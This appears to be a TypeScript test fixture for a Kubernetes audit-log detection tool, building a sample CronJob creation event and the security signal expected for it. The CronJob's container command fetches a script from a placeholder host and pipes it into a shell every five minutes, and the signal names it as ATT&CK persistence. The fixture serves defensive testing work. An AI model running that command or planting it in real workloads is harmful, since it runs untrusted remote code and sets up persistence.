import { auditActivity } from '../../src/formats/audit-activity.ts';
import type { AuditActivity, ManifestActivity } from '../../src/model/activity.ts';
import type { JsonObject } from '../../src/model/json.ts';
import type { Signal } from '../../src/model/signal.ts';

/** An audited creation of a CronJob at RequestResponse, with some fields replaced. */
export function auditEvent(changes: JsonObject = {}): JsonObject {
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: 'b3f9a8e2-0000-4000-8000-000000000001',
    stage: 'ResponseComplete',
    requestURI: '/apis/batch/v1/namespaces/data/cronjobs',
    verb: 'create',
    user: { username: 'dev@corp.example', groups: ['developers', 'system:authenticated'] },
    sourceIPs: ['198.51.100.7'],
    userAgent: 'kubectl/v1.37.2 (linux/amd64) kubernetes/0000000',
    objectRef: {
      resource: 'cronjobs',
      namespace: 'data',
      name: 'nightly-report',
      apiGroup: 'batch',
      apiVersion: 'v1',
    },
    responseStatus: { code: 201 },
    requestObject: cronJob,
    responseObject: { ...cronJob, metadata: { ...cronJob.metadata, uid: 'uid-1' } },
    requestReceivedTimestamp: '2026-11-23T04:37:14.000001Z',
    stageTimestamp: '2026-11-23T04:37:14.012345Z',
    ...changes,
  };
}

export const cronJob = {
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'nightly-report', namespace: 'data' },
  spec: {
    schedule: '*/5 * * * *',
    jobTemplate: {
      spec: {
        template: {
          spec: {
            containers: [
              {
                name: 'report',
                image: 'ghcr.io/ops-tools/runner:1',
                command: ['sh', '-c', 'curl -s https://files.example/r | sh'],
                env: [{ name: 'TOKEN', value: 'hunter2-secret-value' }],
              },
            ],
          },
        },
      },
    },
  },
} as const satisfies JsonObject;

export function activityOf(event: JsonObject, line = 12): AuditActivity {
  return auditActivity({
    event,
    origin: { source: 'audit-file', file: 'audit.log', line },
    cluster: '',
    format: 'kubernetes-audit',
  });
}

export function manifestOf(object: JsonObject, file = 'cron.yaml', line = 1): ManifestActivity {
  return {
    type: 'manifest',
    cluster: '',
    origin: { source: 'audit-file', file, line },
    format: 'manifest',
    object,
  };
}

/** A signal about an activity, with its evidence. */
export function signalOf(activity: AuditActivity | ManifestActivity, changes: Partial<Signal> = {}): Signal {
  const request = activity.type === 'audit' ? activity.request : undefined;
  const { source, file, line } = activity.origin;
  return {
    detector: { type: 'cel', id: 'rule-download', title: 'Downloads a script and pipes it into a shell' },
    severity: 'high',
    attack: [{ technique: 'T1053.007', tactics: ['execution', 'persistence'] }],
    reasons: ['the command of container report downloads and runs: curl -s https://files.example/r | sh'],
    evidence: [{ source, file, line, auditID: request?.auditId ?? '', time: request?.receivedAt ?? null }],
    missing: [],
    ...changes,
  };
}

export const detector = (id: string, title = id): Signal['detector'] => ({ type: 'cel', id, title });
